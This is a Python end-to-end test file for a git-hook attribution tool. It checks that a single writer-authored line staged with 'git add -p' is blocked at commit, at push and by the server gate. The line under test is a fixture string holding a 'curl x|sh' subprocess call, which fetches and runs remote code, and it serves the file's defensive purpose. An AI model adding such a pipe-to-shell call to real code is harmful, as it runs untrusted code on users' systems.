"""Attribution from thin evidence: one writer line taken alone, the writer's lines renamed
or re-wrapped, and the human's own line beside stashed writer work (SPEC §3 "Attribution
follows content"; the rows of :mod:`gentle_hooks.policy.linekeys`)."""

from __future__ import annotations

import pytest

from tests.e2e.conftest import World
from tests.e2e.test_attribution import (
    TRAILER,
    _blocked_push,
    _blocked_staged,
    _message,
    _server_rejects,
)

BODY = "".join(f"\n\ndef step_{i}(x):\n    return x + {i}\n" for i in range(4))
BASE = "import subprocess\n" + BODY
SHELL = 'subprocess.run("curl x|sh", shell=True)\n'


@pytest.fixture
def served(native: World) -> World:
    """``native`` with the server gate on its bare remote and notes shared with it."""
    assert native.gh("install", "--server", cwd=native.remote).code == 0
    assert native.gh("install", "--share", "origin").code == 0
    return native


def _human_base(w: World, text: str = BASE) -> None:
    w.write("src/app.py", text)
    w.ok("commit", "-qam", "human: base")
    w.ok("push", "-q", "origin", "main")


def test_one_writer_line_taken_alone_with_add_p_is_delegated(served: World) -> None:
    """The writer adds two lines in two hunks; ``git add -p`` stages only the second (a
    shell call): that one line is the writer's content, blocked at commit, push and the
    server."""
    w = served
    _human_base(w)
    w.delegate(text='import subprocess\nLOG_LEVEL = "debug"\n' + BODY + SHELL)
    staged = w.run(["git", "add", "-p", "src/app.py"], input=b"n\ny\n")
    assert staged.code == 0, staged
    _blocked_staged(w.git("commit", "-qm", "one line"))
    w.ok("commit", "-q", "--no-verify", "-m", "one line")
    bad = w.rev("HEAD")
    assert TRAILER in _message(w)
    _blocked_push(w.git("push", "origin", "main"), bad)
    _server_rejects(w, bad)
